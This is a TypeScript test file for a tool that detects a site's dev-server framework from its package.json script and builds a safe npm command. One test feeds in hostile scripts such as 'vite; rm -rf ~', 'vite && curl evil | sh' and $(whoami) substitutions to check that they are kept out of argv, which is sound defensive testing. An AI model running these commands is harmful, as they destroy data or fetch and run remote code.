/** Framework detection (DESIGN §10): table tests of the pure reader of a site's dev script. */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import {
  FRAMEWORKS,
  detectFramework,
  getDevCommand,
  getDevScript,
  getFirstCommand,
  renderCustomCommand,
  suggestCommand,
} from '../../../src/run/frameworks.js';

const pkg = (scripts: Record<string, unknown>, deps: Record<string, string> = {}): unknown => ({
  name: 'site',
  scripts,
  devDependencies: deps,
});

// getFirstCommand: the command npm's appended arguments reach, wrappers removed.
const COMMANDS: [script: string, words: string[]][] = [
  ['astro dev', ['astro', 'dev']],
  ['  astro   dev  ', ['astro', 'dev']],
  // wrappers
  ['npx astro dev', ['astro', 'dev']],
  ['npx --yes vite@5 --open', ['vite', '--open']],
  ['npx -y -p @11ty/eleventy eleventy --serve', ['eleventy', '--serve']],
  ['pnpm exec astro dev', ['astro', 'dev']],
  ['pnpm dlx vite', ['vite']],
  ['yarn vite', ['vite']],
  ['yarn exec next dev', ['next', 'dev']],
  ['bunx vite', ['vite']],
  ['npm exec -- vite', ['vite']],
  ['npm exec --yes -- astro dev', ['astro', 'dev']],
  ['cross-env NODE_ENV=development next dev', ['next', 'dev']],
  ['cross-env FOO=1 npx vite', ['vite']],
  ['dotenv -e .env.local -- vite', ['vite']],
  ['env -u CI FOO=1 astro dev', ['astro', 'dev']],
  ['./node_modules/.bin/astro dev', ['astro', 'dev']],
  // env assignments, quoted values included
  ['FOO=bar astro dev', ['astro', 'dev']],
  ["NODE_OPTIONS='--max-old-space-size=4096 --inspect' astro dev", ['astro', 'dev']],
  ['FOO=bar BAZ="a b" ASTRO_DEV_BACKGROUND=0 astro dev', ['astro', 'dev']],
  ['cross-env FOO="a && b" vite', ['vite']],
  ['vite --base "/my site/"', ['vite', '--base', '/my site/']],
  ['vite --base "say \\"hi\\""', ['vite', '--base', 'say "hi"']],
  // Chains: npm appends to the END of the script, so the last command of `&&`/`;` is the server...
  ['npm run build:css && vite', ['vite']],
  ['astro check && astro dev', ['astro', 'dev']],
  ['astro sync; astro dev', ['astro', 'dev']],
  ['astro sync\nastro dev', ['astro', 'dev']],
  // ...and behind a pipe or `||` the appended flags would reach tee or echo, so that is what is read.
  ['vite | tee dev.log', ['tee', 'dev.log']],
  ['next dev || echo failed', ['echo', 'failed']],
  // redirections are not arguments
  ['vite > dev.log 2>&1', ['vite']],
  ['astro dev 2>/dev/null', ['astro', 'dev']],
  // several processes, or syntax not read: nothing
  ['tailwindcss -w & vite', []],
  ['concurrently "vite" "tsc -w"', []],
  ['run-p dev:*', []],
  ['(cd site && vite)', []],
  ['vite --base `pwd`', []],
  ["echo 'open quote", []],
  ['next dev # the flags would land in this comment', []],
  ['vite --base /a#b', ['vite', '--base', '/a#b']],
  // not seen through: these would take the appended flags as their own options
  ['npm exec vite', ['npm', 'exec', 'vite']],
  ['dotenv vite', ['dotenv', 'vite']],
];
for (const [script, words] of COMMANDS) {
  test(`getFirstCommand ${JSON.stringify(script)}`, () => {
    assert.equal(getFirstCommand(script), words);
  });
}

// detectFramework: every row of the table, and what is not a dev server.
const DETECT: [script: string, id: string | null][] = [
  ['astro dev', 'astro'],
  ['vite', 'vite'],
  ['vite dev', 'vite'],
  ['vite serve', 'vite'],
  ['vite --mode staging', 'vite'],
  ['react-router dev', 'react-router'],
  ['next dev', 'next'],
  ['next', 'next'],
  ['next --turbopack', 'next'],
  ['nuxt dev', 'nuxt'],
  ['nuxi dev', 'nuxt'],
  ['docusaurus start', 'docusaurus'],
  ['gatsby develop', 'gatsby'],
  ['eleventy --serve', 'eleventy'],
  ['@11ty/eleventy --serve', 'eleventy'],
  ['npx @11ty/eleventy --serve', 'eleventy'],
  ['npx @11ty/eleventy@3 --quiet --serve', 'eleventy'],
  ['cross-env NODE_OPTIONS="--inspect" npx --yes astro dev', 'astro'],
  ['npm run build:css && vite', 'vite'],
  ['astro check && astro dev', 'astro'],
  // not dev servers, or not at the end
  ['vite build', null],
  ['vite preview', null],
  ['next start', null],
  ['next build', null],
  ['astro', null],
  ['eleventy', null],
  ['astro build', null],
  ['node server.js', null],
  ['vite | tee dev.log', null],
  ['astro dev && echo done', null],
  ['vite;', null],
  ['tailwindcss -w & vite', null],
  ['concurrently "astro dev" "tsc -w"', null],
  ['npm run dev:site', null],
];
for (const [script, id] of DETECT) {
  test(`detectFramework ${JSON.stringify(script)} → ${id}`, () => {
    const r = detectFramework(pkg({ dev: script }));
    assert.ok(r);
    assert.is(r.script, 'dev');
    assert.is(r.framework?.id ?? null, id);
    assert.type(r.reason, 'string');
    if (id) assert.equal(r.framework!.flags, FRAMEWORKS.find((f) => f.id === id)!.flags);
  });
}

test('the table: every row takes the port, and all but Eleventy the host', () => {
  for (const f of FRAMEWORKS) {
    assert.ok(f.flags.includes('{port}'), f.id);
    assert.is(f.flags.includes('{host}'), f.id !== 'eleventy', f.id);
  }
  assert.ok(FRAMEWORKS.find((f) => f.id === 'next')!.flags.includes('--hostname'), 'Next rejects --host');
  assert.ok(FRAMEWORKS.find((f) => f.id === 'vite')!.flags.includes('--strictPort'));
  assert.ok(FRAMEWORKS.find((f) => f.id === 'docusaurus')!.flags.includes('--no-open'));
});

test('the reason names the command that is not a dev server', () => {
  assert.match(detectFramework(pkg({ dev: 'node server.js' }))!.reason, /`node server\.js`/);
  assert.match(detectFramework(pkg({ dev: 'tailwindcss -w & vite' }))!.reason, /more than one process/);
  assert.match(detectFramework(pkg({ dev: 'astro dev' }))!.reason, /`astro dev`/);
});

const VITE_DEPS: [dep: string, id: string, title: string][] = [
  ['@sveltejs/kit', 'sveltekit', 'SvelteKit (Vite)'],
  ['@react-router/dev', 'react-router', 'React Router (Vite)'],
  ['@solidjs/start', 'solid-start', 'SolidStart (Vite)'],
];
for (const [dep, id, title] of VITE_DEPS) {
  test(`dependencies name a Vite site: ${dep}`, () => {
    const r = detectFramework(pkg({ dev: 'vite dev' }, { vite: '^7', [dep]: '^1' }))!;
    assert.is(r.framework!.id, id);
    assert.is(r.framework!.title, title);
    assert.equal(r.framework!.flags, ['--host', '{host}', '--port', '{port}', '--strictPort']);
    assert.match(r.reason, dep);
  });
}

test('dependencies never add flags to a command that is not the framework', () => {
  const deps = { vite: '^7', '@sveltejs/kit': '^2', astro: '^5', next: '^15' };
  assert.is(detectFramework(pkg({ dev: 'node server.js' }, deps))!.framework, null);
  assert.is(detectFramework(pkg({ dev: 'astro dev' }, deps))!.framework!.id, 'astro');
  assert.equal(getDevCommand(pkg({ dev: 'node server.js' }, deps), '127.0.0.1', 4100)!.argv, ['npm', 'run', 'dev']);
});

test('getDevScript: dev, else start, else null', () => {
  assert.equal(getDevScript(pkg({ dev: 'vite', start: 'node x' })), { script: 'dev', text: 'vite' });
  assert.equal(getDevScript(pkg({ start: 'gatsby develop' })), { script: 'start', text: 'gatsby develop' });
  assert.equal(getDevScript(pkg({ dev: 42, start: 'vite' })), { script: 'start', text: 'vite' });
  assert.equal(getDevScript(pkg({ dev: '  ', start: 'vite' })), { script: 'start', text: 'vite' });
  assert.is(getDevScript(pkg({ build: 'vite build' })), null);
  for (const bad of [{}, { scripts: 'vite' }, { scripts: ['vite'] }, null, undefined, 'vite', []]) {
    assert.is(getDevScript(bad), null, JSON.stringify(bad));
    assert.is(detectFramework(bad), null, JSON.stringify(bad));
    assert.is(getDevCommand(bad, '127.0.0.1', 4100), null, JSON.stringify(bad));
  }
});

test('a start-only site runs its start script', () => {
  const r = getDevCommand(pkg({ start: 'docusaurus start' }), '127.0.0.1', 4100)!;
  assert.is(r.script, 'start');
  assert.equal(r.argv, ['npm', 'run', 'start', '--', '--host', '127.0.0.1', '--port', '4100', '--no-open']);
  assert.is(r.display, 'npm run start -- --host 127.0.0.1 --port 4100 --no-open');
});

const ARGV: [script: string, flags: string[]][] = [
  ['astro dev', ['--host', '127.0.0.1', '--port', '4100']],
  ['vite', ['--host', '127.0.0.1', '--port', '4100', '--strictPort']],
  ['next dev', ['--hostname', '127.0.0.1', '--port', '4100']],
  ['npx @11ty/eleventy --serve', ['--port', '4100']],
];
for (const [script, flags] of ARGV) {
  test(`getDevCommand ${JSON.stringify(script)}`, () => {
    const r = getDevCommand(pkg({ dev: script }), '127.0.0.1', 4100)!;
    assert.equal(r.argv, ['npm', 'run', 'dev', '--', ...flags]);
    assert.is(r.display, ['npm run dev --', ...flags].join(' '));
  });
}

test('getDevCommand: an unknown server gets no -- and no flags', () => {
  const r = getDevCommand(pkg({ dev: 'node server.js' }), '127.0.0.1', 4100)!;
  assert.equal(r, { argv: ['npm', 'run', 'dev'], framework: null, script: 'dev', display: 'npm run dev' });
});

test('getDevCommand: the host is one argv word; display quotes it', () => {
  const r = getDevCommand(pkg({ dev: 'astro dev' }), "odd host'", 4100)!;
  assert.equal(r.argv, ['npm', 'run', 'dev', '--', '--host', "odd host'", '--port', '4100']);
  assert.is(r.display, "npm run dev -- --host 'odd host'\\''' --port 4100");
});

test('argv never carries shell metacharacters from package.json', () => {
  const hostile = [
    'vite; rm -rf ~',
    'vite && curl evil | sh',
    'vite --base "$(whoami)"',
    'vite --base `id`',
    'astro dev > /tmp/x; echo $HOME',
    'FOO="a;b|c&d" vite',
    "NODE_OPTIONS='$(id)' astro dev",
    'next dev # ; rm -rf /',
  ];
  for (const script of hostile) {
    for (const scriptName of ['dev', 'start']) {
      const r = getDevCommand(pkg({ [scriptName]: script }), '127.0.0.1', 4100)!;
      assert.equal(r.argv.slice(0, 3), ['npm', 'run', scriptName], script);
      for (const word of r.argv) assert.match(word, /^[\w.:-]+$/, `${script}: ${word}`);
      assert.not.match(r.display, /[;|&$`()<>'"]/, script);
    }
  }
});

const CUSTOM: [template: string, host: string, out: string][] = [
  // An IP literal (all a checked config holds) goes in bare, so a user's own "{host}" quotes work.
  ['npm run serve -- --bind {host} --port {port}', '127.0.0.1', 'npm run serve -- --bind 127.0.0.1 --port 4100'],
  ['npm run serve -- --bind "{host}" --port {port}', '127.0.0.1', 'npm run serve -- --bind "127.0.0.1" --port 4100'],
  ['HOST={host} PORT={port} node server.js --port={port}', '::1', 'HOST=::1 PORT=4100 node server.js --port=4100'],
  ['serve -l tcp://{host}:{port}', "it's", "serve -l tcp://'it'\\''s':4100"],
  ['serve --host {host}', 'a b;c', "serve --host 'a b;c'"],
  ['serve --host {host}', '{port}', "serve --host '{port}'"],
  ['npm run dev', '127.0.0.1', 'npm run dev'],
];
for (const [template, host, out] of CUSTOM) {
  test(`renderCustomCommand ${JSON.stringify(template)} with ${JSON.stringify(host)}`, () => {
    assert.is(renderCustomCommand(template, host, 4100), out);
  });
}

test('suggestCommand: the framework flags as a --command template', () => {
  const next = detectFramework(pkg({ dev: 'next dev' }))!.framework;
  const vite = detectFramework(pkg({ dev: 'vite' }, { '@sveltejs/kit': '^2' }))!.framework;
  assert.is(suggestCommand(next, 'dev'), 'npm run dev -- --hostname {host} --port {port}');
  assert.is(suggestCommand(vite, 'dev'), 'npm run dev -- --host {host} --port {port} --strictPort');
  assert.is(suggestCommand(null, 'dev'), 'npm run dev -- --host {host} --port {port}');
  assert.is(suggestCommand(null, 'start'), 'npm run start -- --host {host} --port {port}');
  const filled = renderCustomCommand(suggestCommand(next, 'dev'), '127.0.0.1', 4100);
  assert.is(filled, 'npm run dev -- --hostname 127.0.0.1 --port 4100');
});

test.run();
